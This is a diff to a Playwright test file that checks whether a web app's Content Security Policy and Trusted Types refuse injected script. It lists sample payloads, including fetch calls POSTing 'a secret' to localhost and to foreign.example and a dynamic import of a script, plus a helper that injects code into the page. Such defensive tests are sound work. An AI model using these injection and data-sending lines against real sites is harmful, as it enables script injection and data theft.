@@ -1,6 +1,6 @@
 import type { Page } from '@playwright/test';
 import { expect, signIn, test } from './fixtures';
-import type { Problems } from './problems';
+import { ECHO, runInPage } from './injected-code';
 
 const SPOIL = 'window.spoiled = true';
 const SINK = 'require-trusted-types-for trusted-types-sink';
@@ -47,6 +47,16 @@ const REFUSED_BY_BROWSER: readonly { what: string; code: string; violation: stri
     violation: 'script-src-elem https://foreign.example',
   },
   {
+    what: 'a module of this machine',
+    code: `import('http://localhost:4001/spoil.js')`,
+    violation: 'script-src-elem http://localhost:4001',
+  },
+  {
+    what: 'a call to this machine',
+    code: `fetch('http://localhost:4001/', { method: 'POST', body: 'a secret' })`,
+    violation: 'connect-src http://localhost:4001',
+  },
+  {
     what: 'a call to a foreign origin',
     code: `fetch('https://foreign.example/', { method: 'POST', body: 'a secret' })`,
     violation: 'connect-src https://foreign.example',
@@ -84,26 +94,6 @@ const REFUSED_BY_POLICY = [
   'http://localhost:4001/remoteEntry.js',
   `data:text/javascript,${SPOIL}`,
 ];
-
-/** How the browser tells of a violation besides the event. */
-const ECHO =
-  /^(console|script|request): .*(Content Security Policy|Trusted(HTML|Script|TypePolicy)|Failed to fetch|csp )/i;
-
-/** Runs code in the page as a script of its own site, and waits until the page has had the problem. */
-const runInPage = async (page: Page, problems: Problems, code: string, problem: RegExp): Promise<void> => {
-  problems.expect(problem);
-  await page.route('**/assets/spoil.js?*', (route) =>
-    route.fulfill({ contentType: 'text/javascript', body: code }),
-  );
-  await page.evaluate(
-    (url) => {
-      document.head.append(Object.assign(document.createElement('script'), { src: url }));
-    },
-    `/assets/spoil.js?${encodeURIComponent(code)}`,
-  );
-  await expect.poll(() => problems.unexpected()).toEqual([]);
-  await page.unroute('**/assets/spoil.js?*');
-};
 
 /** Signs in and waits for the first list. */
 const open = async (page: Page): Promise<void> => {
